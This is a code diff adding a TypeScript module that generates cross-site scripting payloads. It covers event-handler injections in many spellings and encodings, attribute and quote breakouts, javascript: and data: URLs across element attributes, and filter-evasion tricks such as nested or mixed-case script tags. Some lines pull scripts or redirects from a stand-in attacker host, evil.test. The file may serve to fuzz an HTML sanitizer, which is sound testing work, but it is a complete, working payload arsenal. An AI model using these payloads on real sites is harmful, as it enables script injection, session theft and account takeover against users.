@@ -1,0 +1,143 @@
+/** Elements that run what their handler says, with and without somebody touching them. */
+export function handlers(run: string): string[] {
+  const bare: [string, string][] = [
+    ['img src=x', 'onerror'],
+    ['img srcset=x', 'onerror'],
+    ['img src="data:image/gif;base64,R0lGODlhAQABAAAAACw="', 'onload'],
+    ['image src=x', 'onerror'],
+    ['picture><img src=x', 'onerror'],
+    ['video src=x', 'onerror'],
+    ['video><source', 'onerror'],
+    ['audio src=x', 'onerror'],
+    ['audio autoplay src=x', 'oncanplay'],
+    ['input autofocus', 'onfocus'],
+    ['input type=image src=x', 'onerror'],
+    ['select autofocus', 'onfocus'],
+    ['textarea autofocus', 'onfocus'],
+    ['button autofocus', 'onfocus'],
+    ['keygen autofocus', 'onfocus'],
+    ['a href=# autofocus', 'onfocus'],
+    ['div tabindex=1 autofocus', 'onfocus'],
+    ['div contenteditable autofocus', 'onfocusin'],
+    ['details open', 'ontoggle'],
+    ['details', 'onclick'],
+    ['summary', 'onclick'],
+    ['dialog open', 'oncancel'],
+    ['body', 'onload'],
+    ['body', 'onpageshow'],
+    ['body', 'onhashchange'],
+    ['html', 'onmouseover'],
+    ['frameset', 'onload'],
+    ['iframe', 'onload'],
+    ['iframe src=about:blank', 'onload'],
+    ['object data=about:blank', 'onload'],
+    ['object data=x', 'onerror'],
+    ['embed src=about:blank', 'onload'],
+    ['script src=data:,x', 'onload'],
+    ['script src=x', 'onerror'],
+    ['link rel=stylesheet href=x', 'onerror'],
+    ['link rel=stylesheet href=data:,x', 'onload'],
+    ['style', 'onload'],
+    ['style>@import"x";</style><style', 'onerror'],
+    ['marquee', 'onstart'],
+    ['marquee loop=1 width=0', 'onfinish'],
+    ['meter', 'onpointerenter'],
+    ['p', 'onmouseover'],
+    ['span', 'onpointerover'],
+    ['b', 'onclick'],
+    ['h2', 'onauxclick'],
+    ['table', 'onmouseenter'],
+    ['td', 'onwheel'],
+    ['ul', 'oncopy'],
+    ['form', 'onsubmit'],
+    ['div', 'onanimationstart'],
+    ['div', 'ontransitionend'],
+    ['div popover', 'onbeforetoggle'],
+    ['div hidden=until-found', 'onbeforematch'],
+    ['x', 'onclick'],
+  ]
+  return bare.flatMap(([tag, handler], index) => {
+    const spellings = [
+      `<${tag} ${handler}="${run}">x`,
+      `<${tag} ${handler}='${run}'>x`,
+      `<${tag} ${handler}=${run}>x`,
+      `<${tag}\t${handler.toUpperCase()}\n=\n"${run}" >x`,
+      `<${tag} / ${handler.replace('on', 'oN')} = ${run} />x`,
+      `<${tag} x="y"${handler}="${run}">x`,
+      `<${tag} ${handler}="${entities(run)}">x`,
+    ]
+    // Two spellings of each, by turns.
+    return [spellings[0]!, spellings[(index % (spellings.length - 1)) + 1]!]
+  })
+}
+
+const entities = (text: string) =>
+  [...text].map((character) => `&#x${character.codePointAt(0)!.toString(16)};`).join('')
+
+/** Out of the attribute, the comment or the quote that somebody put the text into. */
+export function breaking(run: string): string[] {
+  const quotes = ['"', "'", '`', '">', "'>", '`>', '" ', "' ", '"/>', '&quot;', '&#34;', '&#x22;>', '\\"', "\\'", '%22']
+  return quotes.flatMap((quote) => [
+    `${quote}onmouseover=${run} x=`,
+    `${quote}><img src=x onerror=${run}>`,
+    `${quote} autofocus tabindex=0 onfocus=${run} style=x `,
+  ])
+}
+
+/** An address that runs, everywhere an element takes one. */
+export function elsewhere(run: string): string[] {
+  return [
+    `<iframe src="javascript:parent.${run}"></iframe>`,
+    `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
+    `<iframe srcdoc="&lt;img src=x onerror=parent.${run}&gt;"></iframe>`,
+    `<frameset><frame src="javascript:top.${run}"></frameset>`,
+    `<object data="javascript:${run}"></object>`,
+    `<object data="data:text/html,<script>parent.${run}</script>"></object>`,
+    `<object><param name=src value="javascript:${run}"></object>`,
+    `<embed src="javascript:${run}">`,
+    `<embed src="data:text/html,<script>${run}</script>">`,
+    `<applet code="javascript:${run}"></applet>`,
+    `<form action="javascript:${run}"><button>x</button></form>`,
+    `<form id=f${run.length}></form><button form=f${run.length} formaction="javascript:${run}">x</button>`,
+    `<input type=submit formaction="javascript:${run}">`,
+    `<input type=image formaction="javascript:${run}" src=x>`,
+    `<isindex action="javascript:${run}" type=image>`,
+    `<base href="javascript:${run}//"><a href="x">x</a>`,
+    `<base href="https://evil.test/"><script src="x.js"></script>`,
+    `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
+    `<meta http-equiv="refresh" content="0; url=https://evil.test/">`,
+    `<meta http-equiv=set-cookie content="a=b"><img src=x onerror=${run}>`,
+    `<meta http-equiv=content-security-policy content="script-src *"><script>${run}</script>`,
+    `<link rel=import href="data:text/html,<script>${run}</script>">`,
+    `<link rel=prefetch href="https://evil.test/prefetch">`,
+    `<link rel=stylesheet href="https://evil.test/x.css">`,
+    `<area href="javascript:${run}" shape=default>`,
+    `<map name=m><area href="javascript:${run}" coords=0,0,99,99></map><img usemap=#m src=x>`,
+    `<img src="javascript:${run}">`,
+    `<img src=x srcset="javascript:${run} 2x">`,
+    `<img longdesc="javascript:${run}" dynsrc="javascript:${run}" lowsrc="javascript:${run}" src=x>`,
+    `<video poster="javascript:${run}" src="javascript:${run}"></video>`,
+    `<source src="javascript:${run}" srcset="javascript:${run}">`,
+    `<track src="javascript:${run}" default>`,
+    `<body background="javascript:${run}">`,
+    `<table background="javascript:${run}"><td background="javascript:${run}">x</table>`,
+    `<blockquote cite="javascript:${run}">x</blockquote>`,
+    `<a ping="https://evil.test/ping" href="javascript:${run}">x</a>`,
+    `<a target=_top href="&#106;&#97;vascript:${run}">x</a>`,
+    `<a href="https://example.org" onclick="${run}" download>x</a>`,
+    `<script>${run}</script>`,
+    `<script src="data:text/javascript,${run}"></script>`,
+    `<script type=module>${run}</script>`,
+    `<script type=importmap>{"imports":{"x":"data:text/javascript,${run}"}}</script>`,
+    `<script src=https://evil.test/x.js></script>`,
+    `<ScRiPt >${run}</sCrIpT >`,
+    `<script\n>${run}</script\n>`,
+    `<script/x>${run}</script/x>`,
+    `<<script>${run}//<</script>`,
+    `<scr<script>ipt>${run}</scr</script>ipt>`,
+    `<template shadowrootmode=open><script>${run}</script><img src=x onerror=${run}></template>`,
+    `<portal src="https://evil.test/"></portal>`,
+    `<fencedframe src="https://evil.test/"></fencedframe>`,
+    `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
+  ]
+}
